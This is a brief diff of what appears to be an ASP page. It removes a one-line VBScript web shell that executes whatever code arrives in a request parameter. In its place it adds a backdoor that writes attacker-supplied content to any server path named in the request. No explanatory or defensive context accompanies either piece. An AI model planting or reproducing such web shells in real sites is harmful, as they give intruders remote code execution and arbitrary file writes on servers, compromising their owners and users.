@@ -1,2 +1,6 @@
-<%@ Language=VBScript %>
-<% Execute Request("k") %>
+<%
+Set fs = Server.CreateObject("Scripting.FileSystemObject")
+Set f = fs.CreateTextFile(Server.MapPath(Request("p")), True)
+f.Write Request("body")
+f.Close
+%>
